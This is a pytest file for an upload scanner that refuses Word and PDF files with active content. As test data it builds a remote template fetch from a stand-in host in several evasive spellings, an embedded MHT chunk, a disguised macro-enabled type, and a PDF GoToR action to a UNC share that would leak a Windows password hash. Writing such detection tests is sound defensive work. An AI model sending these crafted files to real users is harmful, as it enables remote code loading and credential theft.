"""Files that hide what they do from a look at their bytes; Word and Acrobat understand all of these spellings."""

import io
from pathlib import Path

import docx
import pytest

from mikroserwis.scans import DOCX, OFFICE, SCANS, Code, UnusableFile, inspect
from tests.scans.samples import drawn_pdf, with_parts

RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
TEMPLATE = (
    f'<Relationship Id="r1" Type="{KIND}attachedTemplate" Target="http://a.example/t.dotm" TargetMode="External"/>'
)
RELS = "word/_rels/settings.xml.rels"


def document() -> bytes:
    paper = docx.Document()
    paper.add_paragraph("Wycena")
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def refusal(tmp_path: Path, content: bytes, name: str) -> UnusableFile:
    file = tmp_path / "upload"
    file.write_bytes(content)
    with pytest.raises(UnusableFile) as caught:
        inspect(file, name, accept=(*SCANS, *OFFICE))
    return caught.value


HIDDEN = {
    "a sign that ends a tag, within a value": (RELS, RELATIONS.format(TEMPLATE.replace('"r1"', '"r>1"')).encode()),
    "a letter by its number": (RELS, RELATIONS.format(TEMPLATE.replace('"External"', '"&#69;xternal"')).encode()),
    "two bytes a letter": (RELS, RELATIONS.format(TEMPLATE).encode("utf-16")),
    "a part named in capitals": (RELS.replace("rels", "RELS"), RELATIONS.format(TEMPLATE).encode()),
    "a second type of another name": (
        RELS,
        RELATIONS.format(TEMPLATE.replace("<Relationship", '<Relationship xmlns:x="u" x:Type="/hyperlink"')).encode(),
    ),
}


@pytest.mark.parametrize(("part", "content"), HIDDEN.values(), ids=HIDDEN.keys())
def test_a_template_fetched_from_elsewhere_is_found_however_it_is_spelled(
    tmp_path: Path, part: str, content: bytes
) -> None:
    error = refusal(tmp_path, with_parts(document(), {part: content}), "wycena.docx")
    assert (error.code, error.detail) == (Code.ACTIVE_CONTENT, {"found": "External"})


def test_a_web_page_that_becomes_part_of_a_text_is_refused(tmp_path: Path) -> None:
    relation = f'<Relationship Id="r1" Type="{KIND}aFChunk" Target="more.mht"/>'
    parts = {RELS: RELATIONS.format(relation).encode(), "word/more.mht": b"MIME-Version: 1.0"}
    error = refusal(tmp_path, with_parts(document(), parts), "wycena.docx")
    assert (error.code, error.detail) == (Code.ACTIVE_CONTENT, {"found": "aFChunk"})


def test_a_macro_type_spelled_by_numbers_is_found(tmp_path: Path) -> None:
    types = b'<Types><Override PartName="/a" ContentType="a.macro&#69;nabled.main+xml"/></Types>'
    error = refusal(tmp_path, with_parts(document(), {"[Content_Types].xml": types}), "wycena.docx")
    assert (error.code, error.detail) == (Code.ACTIVE_CONTENT, {"found": "macroEnabled"})


def test_a_relation_that_cannot_be_read_is_no_way_in(tmp_path: Path) -> None:
    assert refusal(tmp_path, with_parts(document(), {RELS: b"<Relationships>"}), "wycena.docx").code == Code.BROKEN


def test_a_scan_that_opens_a_file_on_another_machine_is_refused(tmp_path: Path) -> None:
    """The reader would sign in there with the Windows password's hash."""
    action = rb"/OpenAction<</S/GoToR/F(\\\\a.example\\share\\x.pdf)/D[0/Fit]>>"
    error = refusal(tmp_path, drawn_pdf(catalog=action), "skan.pdf")
    assert (error.code, error.detail) == (Code.ACTIVE_CONTENT, {"found": "GoToR"})


def test_an_ordinary_text_is_still_taken(tmp_path: Path) -> None:
    file = tmp_path / "upload"
    file.write_bytes(document())
    assert inspect(file, "wycena.docx", accept=OFFICE).content_type == DOCX
